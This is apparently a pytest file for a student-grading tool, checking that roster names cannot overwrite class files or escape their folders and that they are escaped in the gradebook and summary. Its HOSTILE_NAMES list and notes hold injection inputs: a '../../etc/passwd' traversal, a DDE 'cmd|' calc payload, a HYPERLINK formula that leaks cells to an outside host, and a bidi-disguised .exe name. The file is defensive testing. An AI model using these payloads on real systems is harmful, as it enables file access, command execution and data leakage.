"""Students' names from a roster become output folders: a name can be anything an LMS export
holds (the batch's own file names, `..`, 300 characters, bidi controls, a formula), and the class
must keep its summary.html and gradebook.csv, each student a folder of their own, and sockets
that bind. Batches of scripts that never import MindNLP, so a few seconds a student."""

from __future__ import annotations

import csv
import sqlite3
import unicodedata

import pytest

from grader import cli
from grader.commands import roster
from grader.errors import CannotGrade
from grader.outputs.gradebook import FORMULA_START, NUMBER
from tests.commands.batch_helpers import run_batch, submission, write_roster
from tests.helpers import SUBMISSIONS

LONG = ("Ada Augusta King Countess of Lovelace " * 8).strip()  # 303 characters
RTL = "Mallory\u202egnp.exe"
HOSTILE_NAMES = [
    "summary.html",
    "gradebook.csv",
    "GRADEBOOK.SQLITE",
    "grader.log",
    "..",
    ".hidden",
    "../../etc/passwd",
    LONG,
    LONG + "!",  # the same first 300 characters: still a folder of its own
    RTL,
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "-2+3+cmd|' /C calc'!A0",
]


def read_class(out):
    with (out / "gradebook.csv").open(newline="") as handle:
        return list(csv.DictReader(handle))


@pytest.fixture(scope="module")
def graded_twice(tmp_path_factory):
    """A class of hostile names, graded, then the same command again."""
    root = tmp_path_factory.mktemp("names")
    quick = submission(root / "subs", "quick")
    sockets = SUBMISSIONS / "hostile" / "read-socket-table"
    rows = [(name, str(sockets if name == LONG else quick), f"=cmd|{i}") for i, name in enumerate(HOSTILE_NAMES)]
    path = write_roster(root / "roster.csv", rows, ("student", "submission", "note"))
    out = root / "class"
    runs = []
    for _ in range(2):
        runs.append(run_batch(path, out, "--jobs", "2", timeout=900))
        runs[-1].files = sorted(p.name for p in out.iterdir())  # what the class folder held after this run
    return out, runs


def test_the_class_files_survive_students_named_like_them_on_every_run(graded_twice):
    out, runs = graded_twice
    for done in runs:
        assert done.returncode == 1, done.stderr  # graded (nobody trained): not a roster or grader error
        assert "summary.html" in done.files and "gradebook.csv" in done.files and "gradebook.sqlite" in done.files
    assert "kept from an earlier run" in runs[1].stdout and "12 kept" in runs[1].stdout
    assert (out / "summary.html").read_text().lstrip().lower().startswith("<!doctype html")
    assert read_class(out)[0]["student"] == "summary.html"  # the class gradebook, not a student's


def test_each_student_has_a_folder_of_their_own_named_in_the_gradebook(graded_twice):
    out, _ = graded_twice
    rows = read_class(out)
    folders = [row["folder"] for row in rows]
    assert len(rows) == len(HOSTILE_NAMES) and len(set(folders)) == len(folders)
    for row, name in zip(rows, HOSTILE_NAMES, strict=True):
        folder = out / row["folder"]
        assert row["folder"] == roster.folder_name(name)
        assert folder.parent == out and folder.is_dir() and (folder / "scored.json").is_file(), row
        assert not row["folder"].startswith((".", "-")) and len(row["folder"]) <= roster.FOLDER_LIMIT
        assert row["folder"].casefold() not in {f.casefold() for f in roster.CLASS_FILES}
        assert not any(unicodedata.category(ch) in ("Cf", "Cc") for ch in row["folder"])
    with sqlite3.connect(out / "gradebook.sqlite") as db:
        assert sorted(f for (f,) in db.execute("SELECT folder FROM students")) == sorted(folders)


def test_the_batch_writes_beside_the_students_only_what_no_student_folder_can_be(graded_twice):
    """CLASS_FILES is the complete list: everything else in the class folder is a student's or hidden."""
    out, runs = graded_twice
    folders = {row["folder"] for row in read_class(out)}
    for done in runs:
        class_level = [name for name in done.files if name not in folders and not name.startswith(".")]
        assert set(class_level) <= set(roster.CLASS_FILES), class_level


def test_a_long_name_grades_and_its_run_sees_no_host_path(graded_twice):
    out, _ = graded_twice
    folder = out / roster.folder_name(LONG)
    stdout = (folder / "evidence" / "logs" / "stdout.txt").read_text()
    table = stdout[stdout.index("SOCKETS-BEGIN") : stdout.index("SOCKETS-END")]
    assert "/proc/self/fd/" in table and "probe.sock" in table
    assert "Lovelace" not in table and "/tmp/" not in table and "grade-batch" not in table
    assert list((folder / "evidence" / "probe").glob("probe-*.jsonl"))  # the probe's socket bound and was reached


def test_names_are_shown_as_text_in_the_gradebook_and_the_summary(graded_twice):
    out, _ = graded_twice
    rows = {row["folder"]: row for row in read_class(out)}
    rtl = rows[roster.folder_name(RTL)]
    assert rtl["student"] == "Mallory\\u202egnp.exe"  # escaped, never reordering the cells after it
    assert "\u202e" not in (out / "summary.html").read_text() and "Mallory\\u202egnp.exe" in (out / "summary.html").read_text()
    for row in rows.values():
        for key, value in row.items():
            assert value.lstrip(" ")[:1] not in FORMULA_START or value.startswith("'") or NUMBER.fullmatch(value), (key, value)
        assert row["note"].startswith("'=cmd|")
        assert float(row["score"]) >= 0 and float(row["max_score"]) > 0  # scores stay numbers


def test_names_that_meet_after_derivation_are_reported_before_anyone_is_graded(tmp_path):
    quick = submission(tmp_path / "subs", "quick")
    path = write_roster(
        tmp_path / "roster.csv",
        [("Ann Lee", str(quick)), ("Ann\u202eLee", str(quick)), ("Ann_Lee", str(quick)), ("ﬁle", str(quick)), ("file", str(quick))],
    )
    with pytest.raises(CannotGrade) as caught:
        roster.read(path)
    message = str(caught.value)
    assert "roster.csv:4: student 'Ann_Lee' collides with line 2 (same output folder 'Ann_Lee')" in message
    assert "roster.csv:6: student 'file' collides with line 5" in message  # the ligature normalises to the same name
    assert "roster.csv:3" not in message  # a dropped bidi override: AnnLee, a folder of its own
    assert cli.main(["batch", str(path), "--profile", "tiny", "--out", str(tmp_path / "o")]) == 2
    assert not (tmp_path / "o").exists()


def test_folder_names_keep_ordinary_names_as_they_were():
    """Resuming a batch graded before finds the same folders."""
    assert roster.folder_name("Ada Lovelace") == "Ada_Lovelace"
    assert roster.folder_name("o'brien@uni.edu") == "o_brien@uni.edu"
    assert roster.folder_name("José Núñez") == "José_Núñez"
    assert roster.folder_name("a__b") == "a__b"
